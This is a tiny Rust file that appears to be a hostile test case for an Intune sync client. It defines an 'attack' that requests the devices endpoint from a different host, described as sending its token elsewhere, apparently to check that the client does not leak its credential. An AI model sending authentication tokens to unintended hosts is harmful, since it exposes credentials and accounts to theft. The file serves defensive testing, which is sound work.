//! Sends its token to another host.

use intune_sync_hostile::{DEVICES, Graph, attack};

fn attempt(graph: &Graph) -> String {
    graph.get(DEVICES).at(graph.elsewhere()).outcome()
}

attack!(attempt);
